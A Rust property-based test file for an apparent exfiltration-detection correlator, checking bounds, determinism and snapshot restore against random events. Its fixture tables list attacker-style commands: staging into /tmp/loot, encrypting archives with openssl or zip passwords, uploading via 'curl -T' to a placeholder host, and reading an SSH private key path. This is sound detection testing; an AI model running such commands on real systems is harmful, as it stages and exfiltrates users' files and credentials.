//! Whatever the events: bounds hold, nothing panics, the same events give the same findings, and a
//! restart in the middle changes nothing.

use std::sync::Arc;

use correlator::{
    Catalogue, CodeInside, Content, Correlator, Detail, Event, Exit, FileKey, FileWritten, Finding,
    Flow, Knobs, LibraryUse, Limits, LinkedCode, Lost, ProcessKey, ProcessStart, Time, UsePurpose,
};
use proptest::collection::vec;
use proptest::prelude::{Just, ProptestConfig, Strategy, any, prop_oneof, proptest};

use crate::samples;

/// An event that owns what it tells.
#[derive(Clone, Debug)]
struct Told {
    wait: u64,
    pid: u8,
    act: Act,
}

#[derive(Clone, Debug)]
enum Act {
    Start {
        parent: u8,
        command: usize,
        directory: usize,
    },
    Fork {
        child: u8,
    },
    Exit {
        files: u64,
    },
    Load,
    Use {
        code: usize,
        uses: u64,
        output: Option<usize>,
        passphrase: bool,
    },
    Inside {
        image: usize,
        code: Option<usize>,
    },
    Write {
        path: usize,
        content: usize,
        opener: Option<u8>,
        unlinked: bool,
    },
    Content {
        path: usize,
        content: usize,
    },
    Rename {
        from: usize,
        to: usize,
        keyed: bool,
    },
    Link {
        from: usize,
        to: usize,
    },
    Remove {
        path: usize,
    },
    Read {
        directory: usize,
        name: bool,
    },
    Connect,
    Sent {
        sent: u64,
        received: u64,
    },
    Throttle {
        left_out: u64,
    },
    Lose {
        count: u64,
    },
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 96, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn bounds_hold(events in vec(told(), 1..400)) {
        let limits = Limits {
            processes: 6,
            activities: 3,
            habits: 2,
            gatherings: 2,
            directories: 2,
            entries: 3,
            uses: 1,
            mapped: 1,
            code_files: 2,
            answers: 2,
            ..Limits::default()
        };
        let mut correlator = Correlator::new(catalogue(), knobs(), limits);
        for finding in play(&mut correlator, &events, 0) {
            assert!(finding.processes.len() <= limits.entries);
            assert!(finding.outputs.len() <= limits.entries);
            assert!(finding.sources.len() <= limits.entries);
            assert!(finding.lineage.len() <= limits.lineage);
            assert!((1..=100).contains(&finding.confidence));
            assert!(!finding.techniques.is_empty());
            assert!(!finding.analytics.is_empty());
        }
        let usage = correlator.usage();
        assert!(usage.live_processes + usage.ended_processes <= limits.processes);
        assert!(usage.told_activities + usage.untold_activities <= limits.activities);
        assert!(usage.habits <= limits.habits);
        assert!(usage.gatherings <= limits.gatherings);
        assert!(usage.code_files <= limits.code_files);
    }

    #[test]
    fn the_same_events_give_the_same_findings(events in vec(told(), 1..200)) {
        let findings = || {
            let mut correlator = Correlator::new(catalogue(), knobs(), Limits::default());
            play(&mut correlator, &events, 0)
        };
        assert_eq!(findings(), findings());
    }

    // What is not heard of for a whole window is forgotten after a restart, so that processes
    // which ended meanwhile do not stay for good; within one, nothing may differ.
    #[test]
    fn a_restart_changes_nothing(
        events in vec(with_waits(0..WINDOW / 300), 1..300),
        cut in any::<u16>(),
    ) {
        let cut = usize::from(cut) % events.len();
        let mut straight = Correlator::new(catalogue(), knobs(), Limits::default());
        let mut findings = play(&mut straight, &events[..cut], 0);
        let elapsed: u64 = events[..cut].iter().map(|told| told.wait).sum();

        let mut restarted = Correlator::new(catalogue(), knobs(), Limits::default());
        restarted.restore(&straight.snapshot()).unwrap();
        assert_eq!(restarted.snapshot(), straight.snapshot());
        let mut others = findings.clone();
        findings.extend(play(&mut straight, &events[cut..], elapsed));
        others.extend(play(&mut restarted, &events[cut..], elapsed));
        let first = findings.iter().zip(&others).position(|(one, other)| one != other);
        assert_eq!((first, findings.len()), (None, others.len()), "{}", told_of(&findings, &others, first));
    }

    #[test]
    fn damaged_snapshots_are_refused_or_harmless(
        events in vec(told(), 1..60),
        place in any::<u16>(),
        byte in any::<u8>(),
    ) {
        let mut correlator = Correlator::new(catalogue(), knobs(), Limits::default());
        play(&mut correlator, &events, 0);
        let mut snapshot = correlator.snapshot();
        let place = usize::from(place) % snapshot.len();
        snapshot[place] = byte;
        let mut restored = Correlator::new(catalogue(), knobs(), Limits::default());
        if restored.restore(&snapshot).is_ok() {
            play(&mut restored, &events, 0);
        }
        let mut cut = Correlator::new(catalogue(), knobs(), Limits::default());
        let _ = cut.restore(&snapshot[..place]);
    }
}

fn play(correlator: &mut Correlator, events: &[Told], elapsed: u64) -> Vec<Finding> {
    let mut now = 1_700_000_000_000_000_000 + elapsed;
    let mut findings = Vec::new();
    for told in events {
        now += told.wait;
        if correlator
            .next_deadline()
            .is_some_and(|deadline| deadline.0 <= now)
        {
            findings.extend(correlator.advance(Time(now)));
        }
        findings.extend(step(correlator, Time(now), told));
    }
    findings
}

#[expect(clippy::too_many_lines, reason = "one arm per kind of event")]
fn step(correlator: &mut Correlator, time: Time, told: &Told) -> Vec<Finding> {
    let samples = match &told.act {
        Act::Write { content, .. } | Act::Content { content, .. } => {
            samples::content(CONTENTS[content % CONTENTS.len()])
        }
        _ => None,
    };
    let content = Content {
        head: samples
            .as_deref()
            .map(|bytes| &bytes[..bytes.len().min(512)]),
        middle: None,
        tail: samples
            .as_deref()
            .map(|bytes| &bytes[bytes.len() - bytes.len().min(256)..]),
    };
    let size = samples.as_ref().map(|bytes| bytes.len() as u64);
    let path = |number: usize| Some(PATHS[number % PATHS.len()].as_bytes());
    let file = |number: usize| {
        Some(FileKey {
            device: 1,
            inode: (number % PATHS.len()) as u64,
        })
    };
    let directory = |number: usize| Some(DIRECTORIES[number % DIRECTORIES.len()].as_bytes());
    let image_file = |number: usize| {
        Some(FileKey {
            device: 2,
            inode: (number % COMMANDS.len()) as u64,
        })
    };
    let command;
    let inside;
    let detail = match &told.act {
        Act::Start {
            parent,
            command: number,
            directory: place,
        } => {
            let (image, arguments) = COMMANDS[number % COMMANDS.len()];
            command = arguments.replace(' ', "\0") + "\0";
            Detail::ProcessStart(ProcessStart {
                parent: Some(key(*parent)),
                image: Some(image.as_bytes()),
                image_file: image_file(*number),
                arguments: Some(command.as_bytes()),
                directory: directory(*place),
                uid: Some(u32::from(told.pid) * 300),
                ..ProcessStart::default()
            })
        }
        Act::Fork { child } => Detail::Fork { child: key(*child) },
        Act::Exit { files } => Detail::Exit(Exit {
            files_read: Some(*files),
            ..Exit::default()
        }),
        Act::Load => Detail::LibraryLoad {
            path: Some(b"/usr/lib/libarchive.so.13"),
            file: image_file(0),
        },
        Act::Use {
            code,
            uses,
            output,
            passphrase,
        } => {
            let (family, function, purpose) = CODE[code % CODE.len()];
            Detail::LibraryUse(LibraryUse {
                library: (uses % 2 == 0).then_some(b"/usr/lib/libarchive.so.13"),
                function: function.as_bytes(),
                family: family.as_bytes(),
                purpose,
                uses: *uses,
                first: time,
                output: output.and_then(path),
                format: None,
                level: None,
                passphrase: *passphrase,
            })
        }
        Act::Inside { image, code } => {
            inside = code.map(|code| {
                let (family, recognised, purpose) = CODE[code % CODE.len()];
                LinkedCode {
                    family,
                    purpose,
                    recognised,
                }
            });
            Detail::CodeInside(CodeInside {
                file: image_file(*image).expect("every number names a file"),
                path: None,
                code: inside.as_slice(),
            })
        }
        Act::Write {
            path: number,
            opener,
            unlinked,
            ..
        } => Detail::FileWritten(FileWritten {
            path: path(*number),
            file: file(*number),
            opener: opener.map(key),
            unlinked: *unlinked,
            size_after: size,
            content,
            ..FileWritten::default()
        }),
        Act::Content { path: number, .. } => Detail::FileContent {
            path: path(*number),
            file: None,
            size,
            content,
        },
        Act::Rename { from, to, keyed } => Detail::Renamed {
            from: path(*from),
            to: path(*to),
            file: keyed.then(|| file(*from)).flatten(),
        },
        Act::Link { from, to } => Detail::Linked {
            from: path(*from),
            to: path(*to),
            file: None,
        },
        Act::Remove { path: number } => Detail::Removed {
            path: path(*number),
            file: None,
            directory: false,
        },
        Act::Read {
            directory: place,
            name,
        } => Detail::DirectoryRead {
            path: directory(*place),
            name: name.then_some(b"id_rsa"),
            count: None,
        },
        Act::Connect => Detail::FlowOpened(flow(None, None)),
        Act::Sent { sent, received } => Detail::FlowClosed(flow(Some(*sent), Some(*received))),
        Act::Throttle { left_out } => Detail::Throttled {
            left_out: *left_out,
            since: None,
        },
        Act::Lose { count } => Detail::Lost(Lost {
            count: *count,
            from: Time(time.0 - 10),
            to: time,
            kind: None,
            reason: "GAP",
        }),
    };
    correlator.step(&Event {
        time,
        process: key(told.pid),
        incomplete: false,
        detail,
    })
}

/// Families, something of theirs, and what they do.
const CODE: [(&str, &str, UsePurpose); 4] = [
    ("zlib", "deflateInit2_", UsePurpose::Compress),
    ("libarchive", "archive_write_open", UsePurpose::Archive),
    ("openssl", "EVP_EncryptInit_ex", UsePurpose::Encrypt),
    ("of no catalogue", "begin", UsePurpose::Archive),
];

/// The first difference, without the rest.
fn told_of(findings: &[Finding], others: &[Finding], first: Option<usize>) -> String {
    let at = first.unwrap_or(findings.len().min(others.len()));
    format!(
        "straight: {:#?}\nrestarted: {:#?}",
        findings.get(at),
        others.get(at)
    )
}

fn key(pid: u8) -> ProcessKey {
    ProcessKey {
        pid: u32::from(pid),
        start: u64::from(pid),
    }
}

fn flow(bytes_sent: Option<u64>, bytes_received: Option<u64>) -> Flow {
    Flow {
        cookie: 1,
        outbound: None,
        remote: [1; 16],
        remote_port: 443,
        local_port: 1,
        bytes_sent,
        bytes_received,
    }
}

fn told() -> impl Strategy<Value = Told> {
    let waits = prop_oneof![19 => 0..1_000_000_000_u64, 1 => Just(WINDOW)];
    with_waits(waits)
}

fn with_waits(waits: impl Strategy<Value = u64>) -> impl Strategy<Value = Told> {
    (waits, 0..12_u8, act()).prop_map(|(wait, pid, act)| Told { wait, pid, act })
}

fn act() -> impl Strategy<Value = Act> {
    let some = any::<usize>;
    prop_oneof![
        6 => (0..12_u8, some(), some())
            .prop_map(|(parent, command, directory)| Act::Start { parent, command, directory }),
        2 => (0..12_u8).prop_map(|child| Act::Fork { child }),
        3 => bytes().prop_map(|files| Act::Exit { files }),
        1 => Just(Act::Load),
        3 => (any::<usize>(), 0..9_u64, proptest::option::of(any::<usize>()), any::<bool>()).prop_map(
            |(code, uses, output, passphrase)| Act::Use { code, uses, output, passphrase },
        ),
        2 => (any::<usize>(), proptest::option::of(any::<usize>()))
            .prop_map(|(image, code)| Act::Inside { image, code }),
        8 => (some(), some(), proptest::option::of(0..12_u8), any::<bool>()).prop_map(
            |(path, content, opener, unlinked)| Act::Write { path, content, opener, unlinked }
        ),
        1 => (some(), some()).prop_map(|(path, content)| Act::Content { path, content }),
        3 => (some(), some(), any::<bool>())
            .prop_map(|(from, to, keyed)| Act::Rename { from, to, keyed }),
        1 => (some(), some()).prop_map(|(from, to)| Act::Link { from, to }),
        3 => some().prop_map(|path| Act::Remove { path }),
        3 => (some(), any::<bool>()).prop_map(|(directory, name)| Act::Read { directory, name }),
        1 => Just(Act::Connect),
        2 => (bytes(), bytes()).prop_map(|(sent, received)| Act::Sent { sent, received }),
        1 => bytes().prop_map(|left_out| Act::Throttle { left_out }),
        1 => bytes().prop_map(|count| Act::Lose { count }),
    ]
}

/// Ordinary numbers, and the largest that the wire can hold.
fn bytes() -> impl Strategy<Value = u64> {
    prop_oneof![9 => 0..20_000_u64, 1 => Just(u64::MAX)]
}

fn catalogue() -> Arc<Catalogue> {
    static BUILTIN: std::sync::OnceLock<Arc<Catalogue>> = std::sync::OnceLock::new();
    BUILTIN
        .get_or_init(|| Arc::new(Catalogue::builtin()))
        .clone()
}

fn knobs() -> Knobs {
    Knobs::default()
}

/// The shipped time window.
const WINDOW: u64 = 300_000_000_000;

const COMMANDS: [(&str, &str); 20] = [
    ("/bin/bash", "bash"),
    ("/bin/sh", "sh -s"),
    ("/usr/bin/tar", "tar czf /tmp/x.tgz docs"),
    ("/usr/bin/tar", "tar cf - docs"),
    ("/usr/bin/tar", "tar xf /tmp/x.tgz"),
    ("/usr/bin/gzip", "gzip"),
    ("/usr/bin/gzip", "gzip a"),
    ("/usr/bin/zip", "zip -P s -m /tmp/x.zip a b"),
    ("/usr/bin/openssl", "openssl enc -aes-256-cbc -k s"),
    (
        "/usr/bin/openssl",
        "openssl enc -aes-256-cbc -k s -in /tmp/x.zip -out /tmp/x.enc",
    ),
    ("/usr/bin/base64", "base64"),
    ("/usr/bin/cat", "cat /tmp/x.zip"),
    ("/usr/bin/cp", "cp a b /tmp/loot"),
    ("/usr/bin/curl", "curl -T /tmp/x.zip https://h/"),
    ("/usr/bin/ssh", "ssh h cat"),
    ("/usr/bin/python3.11", "python3 x.py"),
    ("/tmp/agent", "agent"),
    ("/usr/bin/id", "id"),
    ("/usr/bin/uname", "uname -a"),
    ("/usr/bin/ps", "ps aux"),
];

const DIRECTORIES: [&str; 5] = [
    "/home/eve",
    "/tmp",
    "/tmp/loot",
    "/home/eve/.ssh",
    "/var/log",
];

const PATHS: [&str; 14] = [
    "/home/eve/a",
    "/home/eve/a.gz",
    "/home/eve/x.jpg",
    "/tmp/x.tgz",
    "/tmp/x.zip",
    "/tmp/x.enc",
    "/tmp/ziAbCdEf",
    "/tmp/loot/a",
    "/tmp/loot/b",
    "/tmp/loot/c",
    "/tmp/loot/d",
    "/home/eve/docs/a",
    "/home/eve/.ssh/id_rsa",
    "/dev/shm/out",
];

const CONTENTS: [&str; 10] = [
    "none",
    "text",
    "report",
    "zip",
    "zip-encrypted",
    "gzip",
    "tar",
    "openssl",
    "random",
    "xor-text",
];
